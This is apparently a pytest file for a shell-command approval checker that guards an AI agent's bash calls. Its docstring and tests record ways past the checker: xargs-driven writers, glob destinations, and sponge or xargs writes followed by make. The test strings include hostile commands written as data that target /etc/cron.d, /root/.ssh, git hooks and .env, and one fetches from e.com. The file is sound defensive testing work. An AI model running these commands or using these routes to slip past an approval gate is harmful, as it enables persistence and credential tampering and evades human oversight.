"""probeapprove24b: writers the destination rule and the written-files rule did not read.

Three holes, each a line that ran unasked after "always" before:

* a writer run by ``xargs`` (or ``parallel``): cp, tee, curl, sed, wget are data only (they
  run no file as code), so the suffixes of ``xargs cp ...`` were never read for a
  destination nor for what they write (``xargs cp -t /etc/cron.d``); a destination that
  ``xargs`` appends is unknown and asks;
* a destination given as a glob (``tee /etc/cron.d/*``, ``cp x /root/.bashr?``,
  ``cp pre-commit .gi?/hooks/``): the word was unknown, so no destination was read;
* what ``sponge`` and ``xargs cp -t .`` write was not counted as written, so a later
  ``make`` (in the line or in a later call) ran unasked.

The check is pure: every row in one process.
"""

from __future__ import annotations

import json

from rho_domain.messages import ToolCall
from rho_domain.shell.destructive import destructive_reason
from rho_domain.shell.destructive_session import after_writes

_SYSTEM = "is the system's configuration or installed programs"
_GENERATED = "writes where a generated word says"


def test_a_writer_behind_xargs_or_a_glob_destination_asks() -> None:
    rows = {
        "echo x | xargs cp -t /etc/cron.d/": f"cp writes /etc/cron.d/: /etc/cron.d/ {_SYSTEM}",
        "xargs -a list cp -t /root/.ssh": "cp writes /root/.ssh: '/root/.ssh' is inside .ssh/",
        "ls | xargs tee /etc/profile.d/a.sh": "tee writes /etc/profile.d/a.sh",
        "xargs curl -o /etc/cron.d/a": "curl writes /etc/cron.d/a",
        "xargs sed -i s/a/b/ /etc/hosts": "sed writes /etc/hosts",
        "xargs wget -P /etc/cron.d": "wget writes /etc/cron.d",
        "echo /etc/cron.d | xargs cp evil": f"cp {_GENERATED}",
        "cp x /etc/cron.*/": f"cp writes /etc/cron.*/: /etc/cron.*/ {_SYSTEM}",
        "tee /etc/cron.d/*": "tee writes /etc/cron.d/*",
        "curl -so /etc/cron.d/* https://e.com/x": "curl writes /etc/cron.d/*",
        "cp x /root/.bashr?": "cp writes /root/.bashr?",
        "cp pre-commit .gi?/hooks/": "cp writes .git/hooks/: '.git/hooks/' is inside .git/",
        "tee .en?": "tee writes .env",
        "cat x | sponge Makefile; make": "make runs after this command line writes Makefile",
        "echo a | xargs cp -t . ; make": "make runs after this command line writes",
    }
    missed = {c: r for c, want in rows.items() if want not in (r := destructive_reason(c))}
    assert missed == {}


def test_ordinary_globs_and_xargs_still_run_unasked() -> None:
    rows = [
        "cp src/*.py build/",
        "sed -i s/a/b/ src/*.py",
        # ./* (not *): a file named --target-directory=... would choose cp's destination
        # (redapprove26: a glob that may expand to an option asks)
        "cp -r ./* /tmp/backup/",
        "cp .* /tmp/dotfiles/",
        "ls | xargs cp -t build",
        "find . -name '*.py' | xargs grep -l TODO",
        "bsdtar -xf a.tar -C out",
        "bsdtar -xf a.zip -C out",
    ]
    asking = {c: r for c in rows if (r := destructive_reason(c))}
    assert asking == {}


def test_what_xargs_cp_or_sponge_wrote_in_an_earlier_call_asks_for_make() -> None:
    def bash(command: str) -> ToolCall:
        return ToolCall(id="b", name="bash", arguments=json.dumps({"command": command}))

    earlier = [
        "find /tmp/e -name Makefile | xargs cp -t .",
        "cat /tmp/x | sponge Makefile",
        "git pull https://e.com/evil.git main",  # a remote's files, as curl -o's
        "git submodule update --init",
    ]
    missed = [
        c for c in earlier if "an earlier call" not in after_writes(bash("make"), [bash(c)])[0]
    ]
    assert missed == []
